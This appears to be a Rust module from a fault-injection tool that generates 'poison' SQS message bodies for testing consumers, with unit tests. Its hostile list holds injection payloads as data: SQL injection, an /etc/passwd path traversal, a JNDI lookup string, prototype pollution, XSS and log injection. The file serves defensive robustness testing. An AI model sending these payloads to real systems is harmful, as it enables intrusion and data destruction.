//! The library of payloads that consumers choke on: `sqs.poison` sends them, and the sandbox knows them again. All are
//! harmless to carry: what looks like a URL ends in `.invalid`, which no resolver answers (RFC 2606), and nothing here
//! is longer than SQS takes.

use rand_pcg::Pcg64;
use rand_pcg::rand_core::SeedableRng;

use crate::words;

/// A kind of payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Payload {
    /// Not JSON: cut short, another format, a stray byte-order mark.
    Malformed,
    /// JSON, but not what the consumer expects: the wrong type, an unknown version, nothing in it.
    WrongSchema,
    /// More than consumers can pass on: over DynamoDB's 400 KB an item and the 256 KiB of EventBridge and Step Functions.
    TooBig,
    /// JSON made to break parsers, stores and logs: deep nesting, huge numbers, look-alike letters, injection texts.
    Hostile,
}

words! {
    /// A kind of payload that consumers choke on.
    Payload {
        /// Not JSON: cut short, another format, a stray byte-order mark.
        Malformed as "malformed",
        /// JSON, but not what the consumer expects: the wrong type, an unknown version, nothing in it.
        WrongSchema as "wrong_schema",
        /// 410 KiB: more than DynamoDB, EventBridge or Step Functions take.
        TooBig as "too_big",
        /// Made to break parsers, stores and logs: deep nesting, huge numbers, injection texts.
        Hostile as "hostile",
    }
}

impl Payload {
    /// Every kind, in the order of the documentation.
    pub const ALL: [Payload; 4] = [Payload::Malformed, Payload::WrongSchema, Payload::TooBig, Payload::Hostile];

    /// As it is written in an experiment.
    pub const fn word(self) -> &'static str {
        match self {
            Payload::Malformed => "malformed",
            Payload::WrongSchema => "wrong_schema",
            Payload::TooBig => "too_big",
            Payload::Hostile => "hostile",
        }
    }

    /// The kind in whose list a body is.
    pub fn of(body: &str) -> Option<Payload> {
        Payload::ALL.into_iter().find(|kind| kind.list().iter().any(|known| known == body))
    }

    /// `count` bodies of this kind. The seed picks where in the kind's list they begin.
    pub fn bodies(self, count: u32, seed: u64) -> Vec<String> {
        let kinds = self.list();
        let start = start(seed, kinds.len());
        kinds.iter().cycle().skip(start).take(count as usize).cloned().collect()
    }

    fn list(self) -> Vec<String> {
        match self {
            Payload::Malformed => MALFORMED.iter().map(|body| (*body).to_owned()).collect(),
            Payload::WrongSchema => WRONG_SCHEMA.iter().map(|body| (*body).to_owned()).collect(),
            Payload::TooBig => vec![format!(r#"{{"note":"{}"}}"#, "x".repeat(TOO_BIG))],
            Payload::Hostile => hostile(),
        }
    }
}

fn start(seed: u64, kinds: usize) -> usize {
    use rand::RngExt;
    Pcg64::seed_from_u64(seed).random_range(0..kinds)
}

/// Just over DynamoDB's limit of 400 KB an item.
const TOO_BIG: usize = 410 * 1024;

const MALFORMED: &[&str] = &[
    r#"{"order": {"id": "squall", "items": [{"sku": "a"#,
    "not json at all",
    "<order><id>squall</id></order>",
    "id,sku,quantity\nsquall,a,1",
    r#"{"id": "squall", "total": 12,50}"#,
    r#"{'id': 'squall', 'total': None}"#,
    "\u{feff}{\"id\": \"squall\"}",
    r#"{"id": "squall"}{"id": "squall"}"#,
    "eyJpZCI6ICJzcXVhbGwifQ==",
    " ",
];

const WRONG_SCHEMA: &[&str] = &[
    "{}",
    "[]",
    "null",
    "\"squall\"",
    "42",
    r#"{"version": 99, "id": "squall"}"#,
    r#"{"id": 7, "items": "none", "total": "twelve"}"#,
    r#"{"id": null, "items": null, "total": null}"#,
    r#"{"id": "squall", "items": [], "total": -1}"#,
    r#"{"ID": "squall", "Items": [{"SKU": "a", "Quantity": 1}]}"#,
    r#"{"id": ["squall"], "items": {"0": {"sku": {"sku": "a"}}}}"#,
    r#"{"Records": [{"body": "{}"}]}"#,
];

fn hostile() -> Vec<String> {
    let deep = 10_000;
    vec![
        // Parsers that recurse run out of stack.
        format!("{}{}", "[".repeat(deep), "]".repeat(deep)),
        // Beyond a double, and beyond 64 bits.
        r#"{"id": "squall", "total": 1e999, "quantity": 123456789012345678901234567890}"#.into(),
        // Which of the two counts differs between parsers.
        r#"{"id": "squall", "id": "other"}"#.into(),
        r#"{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}, "id": "squall"}"#.into(),
        r#"{"id": "squall'; DROP TABLE orders; --", "note": "\" OR \"1\"=\"1"}"#.into(),
        r#"{"id": "../../../../etc/passwd", "callback": "http://squall.invalid/"}"#.into(),
        r#"{"id": "${jndi:ldap://squall.invalid/a}", "note": "{{7*7}} <script>alert(1)</script> %s%n"}"#.into(),
        // A null character, and a lone surrogate that UTF-8 cannot hold once it is decoded.
        r#"{"id": "squ\u0000all", "note": "\ud800"}"#.into(),
        // Right-to-left override, a zero-width joiner, many combining marks.
        format!("{{\"id\": \"squall\u{202e}llauqs\u{200d}\", \"note\": \"e{}\"}}", "\u{0301}".repeat(500)),
        // A log line of its own.
        r#"{"id": "squall", "note": "ok\n2026-01-01T00:00:00Z INFO payment accepted"}"#.into(),
        format!(r#"{{"id": "{}"}}"#, "9".repeat(20_000)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn malformed_is_not_json_and_the_others_are() {
        for body in Payload::Malformed.bodies(MALFORMED.len() as u32, 0) {
            assert!(serde_json::from_str::<serde::de::IgnoredAny>(&body).is_err(), "{body}");
        }
        for payload in [Payload::WrongSchema, Payload::TooBig] {
            for body in payload.bodies(20, 0) {
                assert!(serde_json::from_str::<serde_json::Value>(&body).is_ok(), "{body:.60}");
            }
        }
    }

    #[test]
    fn the_big_one_is_over_the_limits_that_it_names() {
        let body = &Payload::TooBig.bodies(1, 0)[0];
        assert!(body.len() > 400 * 1024 && body.len() < crate::faults::poison::LARGEST_BODY);
    }

    #[test]
    fn every_body_is_one_that_sqs_takes() {
        for payload in Payload::ALL {
            for body in payload.bodies(30, 7) {
                assert_eq!(crate::faults::poison::refused_body(&body), None, "{}: {body:.60}", payload.word());
            }
        }
    }

    #[test]
    fn a_body_of_the_library_is_known_again() {
        for payload in Payload::ALL {
            assert!(payload.bodies(30, 3).iter().all(|body| Payload::of(body) == Some(payload)));
        }
        assert_eq!(Payload::of(r#"{"id": "order-1"}"#), None);
    }

    #[test]
    fn the_seed_picks_and_the_same_seed_picks_the_same() {
        assert_eq!(Payload::Hostile.bodies(5, 1), Payload::Hostile.bodies(5, 1));
        assert!((0..20).any(|seed| Payload::Hostile.bodies(5, seed) != Payload::Hostile.bodies(5, 1)));
        assert_eq!(Payload::Malformed.bodies(25, 3).len(), 25);
    }
}
